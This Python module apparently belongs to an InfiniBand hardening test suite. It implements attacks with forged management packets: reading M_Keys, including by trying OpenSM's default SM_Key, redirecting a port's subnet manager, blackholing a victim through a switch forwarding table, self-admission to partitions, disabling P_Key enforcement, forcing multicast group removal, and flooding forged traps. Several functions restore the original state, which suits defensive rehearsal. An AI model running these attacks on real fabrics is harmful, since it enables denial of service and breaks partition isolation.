"""Attacks by management packets: requests to ports, switches and the subnet administration, and forged traps."""

from __future__ import annotations

import functools

import numpy as np

from softib.diags.hardening.rules import OPENSM_KEY
from softib.iba.constants import Method, MgmtClass, SmpAttr
from softib.iba.notice import Notice, TrapLinkState
from softib.iba.sa import JoinState, MCMemberRecord, PathRecord, PortInfoRecord, SaMethod
from softib.iba.smp import DATA_AT, LinearForwardingTable, MadHeader, PKeyTable, PortInfo
from softib.live.clock import clock_ps
from softib.live.umad_client.wire import smp_get, smp_set
from softib.mad.batch import MadBatch
from softib.tenants.administration import ask_administration
from softib.tenants.attacks.stage import (
    BASE,
    FULL,
    NOT_NEEDED,
    NOT_TRIED,
    STOPPED,
    THROUGH,
    Outcome,
    Stage,
    keys_of,
    wanted_key,
)

__all__ = [
    "enforcement_off",
    "forwarding_table_set",
    "group_leave",
    "mkey_from_administration",
    "mkey_from_port",
    "port_info_set",
    "self_admission",
    "trap_flood",
]

LFT_BLOCK, PKEY_BLOCK = 64, 32
UNCHANGED = (PortInfo.port_state, PortInfo.port_phys_state)
"""Fields of a Set in which 0 means no change (IBA 14.2.5.6)."""
FLOOD, FLOOD_BATCH, SWEEPS = 5_000, 250, 500
"""``FLOOD``: number of forged traps. ``FLOOD_BATCH``: number of traps between two queries to the subnet administration.
``SWEEPS``: the flood counts as harmless if it causes at most this number of sweeps, because the manager then combined
traps. Sweeps are counted instead of timed, because their duration depends on the load.
"""
PATIENCE_S = 10.0
"""Time for which attacker and victim wait for an answer of the subnet administration. Programs repeat a query until
then.
"""
LINK_STATE, URGENT, SWITCH = 128, 1, 2
_ask = functools.partial(ask_administration, patience_s=PATIENCE_S)
GROUP, QKEY = (0xFF12401B80010000, 0x5EED), 0x0B1B
"""A multicast group of the rehearsal: transient, link-local (IBA 4.1.1)."""


def mkey_from_port(s: Stage) -> tuple[Outcome, str]:
    """Get(PortInfo) of a port of another host."""
    if not s.mkey:
        return NOT_NEEDED, "there is no M_Key to be read"
    info = s.attack(smp_get(SmpAttr.PORT_INFO, 0, s.lids[s.victim]))
    if info is None:
        return STOPPED, f"{s.victim} does not answer without the M_Key"
    shown = int(PortInfo.mkey.get(info))
    s.key = shown or s.key
    return (THROUGH, f"{s.victim} shows its M_Key") if shown else (STOPPED, f"{s.victim} answers with an M_Key of 0")


def mkey_from_administration(s: Stage) -> tuple[Outcome, str]:
    """SubnAdmGet(PortInfoRecord), without an SM_Key and with OpenSM's default key."""
    if not s.mkey:
        return NOT_NEEDED, "there is no M_Key to be read"
    for sm_key in (0, OPENSM_KEY):
        fields = {"endport_lid": s.lids[s.victim]}
        answer = _ask(s.wires[s.attacker], s.master, PortInfoRecord, fields, sm_key)
        if answer.good and int(PortInfoRecord.mkey.get(answer.record)):  # type: ignore[attr-defined]
            s.key = int(PortInfoRecord.mkey.get(answer.record))  # type: ignore[attr-defined]
            return THROUGH, f"the subnet administration gives the M_Key to a request with SM_Key {sm_key:#x}"
    return STOPPED, "the subnet administration keeps the M_Key to itself"


def port_info_set(s: Stage) -> tuple[Outcome, str]:
    """Set(PortInfo): the attacker enters its own LID as that of the victim's subnet manager."""
    lid, mine = s.lids[s.victim], s.lids[s.attacker]
    before = s.truth(SmpAttr.PORT_INFO, lid)
    forged = before.copy()
    PortInfo.master_sm_lid.set(forged, mine)
    for same in UNCHANGED:
        same.set(forged, 0)
    s.attack(smp_set(SmpAttr.PORT_INFO, forged, 1, lid, s.key))
    if int(PortInfo.master_sm_lid.get(s.truth(SmpAttr.PORT_INFO, lid))) != mine:
        return STOPPED, f"{s.victim} keeps its manager"
    for same in UNCHANGED:
        same.set(before, 0)
    s.restore(SmpAttr.PORT_INFO, before, lid, 1)
    return THROUGH, f"{s.victim} took {s.attacker} for its manager"


def forwarding_table_set(s: Stage) -> tuple[Outcome, str]:
    """Set(LinearForwardingTable): no packet reaches the victim's LID any more."""
    block, entry = divmod(s.lids[s.victim], LFT_BLOCK)
    before = s.truth(SmpAttr.LFT, s.leaf, block)
    forged = before.copy()
    forged[entry] = 0xFF
    s.attack(smp_set(SmpAttr.LFT, forged, block, s.leaf, s.key))
    if int(LinearForwardingTable.port.get(s.truth(SmpAttr.LFT, s.leaf, block))[entry]) != 0xFF:
        return STOPPED, f"the switch of {s.victim} keeps its table"
    s.restore(SmpAttr.LFT, before, s.leaf, block)
    return THROUGH, f"the switch of {s.victim} drops packets to it"


def self_admission(s: Stage) -> tuple[Outcome, str]:
    """Set(P_KeyTable) of the attacker's own port: the attacker becomes a full member of a partition of the victim."""
    table = PKeyTable.pkey.get(s.truth(SmpAttr.PKEY_TABLE, s.lids[s.attacker]))
    wanted = wanted_key(s)
    if not wanted:
        return NOT_NEEDED, f"{s.attacker} is a full member of each partition of {s.victim}"
    free = int(np.flatnonzero(table == 0)[0]) if (table == 0).any() else PKEY_BLOCK - 1
    forged = table.copy()
    same = np.flatnonzero((table & BASE) == wanted)
    forged[int(same[0]) if len(same) else free] = wanted | FULL
    s.attack(smp_set(SmpAttr.PKEY_TABLE, PKeyTable.pack(pkey=forged), 0, s.lids[s.attacker], s.key))
    s.attack(smp_set(SmpAttr.PKEY_TABLE, PKeyTable.pack(pkey=forged), 0, mkey=s.key))
    if (wanted | FULL) not in keys_of(s, s.attacker):
        return STOPPED, f"{s.attacker} cannot write P_Key {wanted | FULL:#06x} into its own table"
    return THROUGH, f"{s.attacker} made itself a full member of P_Key {wanted | FULL:#06x}"


def enforcement_off(s: Stage) -> tuple[Outcome, str]:
    """Set(PortInfo) of the switch ports towards both hosts: no P_Key is checked there."""
    checks = lambda lid, port: int(PortInfo.partition_enforcement_inbound.get(s.truth(SmpAttr.PORT_INFO, lid, port)))
    checked = [(lid, port) for lid, port in s.gates if checks(lid, port)]
    if not checked:
        return NOT_NEEDED, f"no switch port checks the P_Keys of {s.attacker} and {s.victim}"
    for lid, port in checked:
        forged = s.truth(SmpAttr.PORT_INFO, lid, port)
        for value in (*UNCHANGED, PortInfo.partition_enforcement_inbound, PortInfo.partition_enforcement_outbound):
            value.set(forged, 0)
        s.attack(smp_set(SmpAttr.PORT_INFO, forged, port, lid, s.key))
    if any(checks(lid, port) for lid, port in checked):
        return STOPPED, f"switch ports go on to check the P_Keys of {s.attacker} and {s.victim}"
    return THROUGH, f"no switch port checks the P_Keys of {s.attacker} and {s.victim} any more"


def group_leave(s: Stage) -> tuple[Outcome, str]:
    """SubnAdmDelete(MCMemberRecord) with the GID of the victim: the victim is removed from a multicast group."""
    info = s.truth(SmpAttr.PORT_INFO, s.lids[s.victim])
    prefix = int(PortInfo.gid_prefix.get(info))
    fields = {"mgid": GROUP, "port_gid": (prefix, s.guids[s.victim]), "join_state": JoinState.FULL}
    key = next((k for k in keys_of(s, s.victim) if k), 0xFFFF)
    record = {"qkey": QKEY, "pkey": key | FULL, "sl": 0, "flow_label": 0, "tclass": 0}
    joined = _ask(s.wires[s.victim], s.master, MCMemberRecord, {**fields, **record}, 0, SaMethod.SET)
    if not joined.good:
        return NOT_TRIED, f"{s.victim} cannot join a group itself (status {joined.status})"
    removed = _ask(s.wires[s.attacker], s.master, MCMemberRecord, fields, 0, SaMethod.DELETE)
    _ask(s.wires[s.victim], s.master, MCMemberRecord, fields, 0, SaMethod.DELETE)
    if removed.good:
        return THROUGH, f"{s.attacker} removed {s.victim} from its multicast group"
    return STOPPED, f"the subnet administration refuses to remove {s.victim} from its group for {s.attacker}"


def trap_flood(s: Stage) -> tuple[Outcome, str]:
    """Forged traps 128 in the name of a switch, while the victim queries a path."""
    wire, master, before = s.wires[s.attacker], s.master, s.sweeps()
    fields = {"slid": s.lids[s.victim], "dlid": s.lids[s.attacker]}
    worst, unanswered = 0.0, 0
    for sent in range(0, FLOOD, FLOOD_BATCH):
        wire.exchange(_traps(sent, master, s.leaf))
        began = clock_ps()
        answer = _ask(s.wires[s.victim], master, PathRecord, fields)
        worst = max(worst, (clock_ps() - began) / 1e12)
        unanswered += answer.status is None
    made = s.sweeps() - before
    sweeps = f"{FLOOD} forged traps made {made} sweeps"
    if unanswered:
        return THROUGH, f"{sweeps}, and {unanswered} of {FLOOD // FLOOD_BATCH} queries of {s.victim} got no answer"
    waits = f"{s.victim} waited at most {worst * 1e3:.0f} ms for a path"
    return (THROUGH if made > SWEEPS else STOPPED), f"{sweeps}, and {waits}"


def _traps(first: int, master: int, issuer: int) -> MadBatch:
    """Return a batch of traps 128 (IBA 14.2.5.1) to LID ``master`` in the name of LID
    ``issuer``."""
    batch = MadBatch.zeros(FLOOD_BATCH)
    notice = Notice.pack(is_generic=1, type=URGENT, producer_type=SWITCH, trap_number=LINK_STATE, issuer_lid=issuer)
    details = TrapLinkState.pack(lid=issuer)
    notice[Notice.data_details.byte : Notice.data_details.byte + len(details)] = details
    for i in range(FLOOD_BATCH):
        batch.mad[i, : MadHeader.size] = MadHeader.pack(
            base_version=1,
            mgmt_class=int(MgmtClass.SUBN_LID),
            class_version=1,
            method=int(Method.TRAP),
            attr_id=int(SmpAttr.NOTICE),
            tid=first + i + 1,
        )
        batch.mad[i, DATA_AT : DATA_AT + len(notice)] = notice
    batch.dlid[:] = master
    return batch
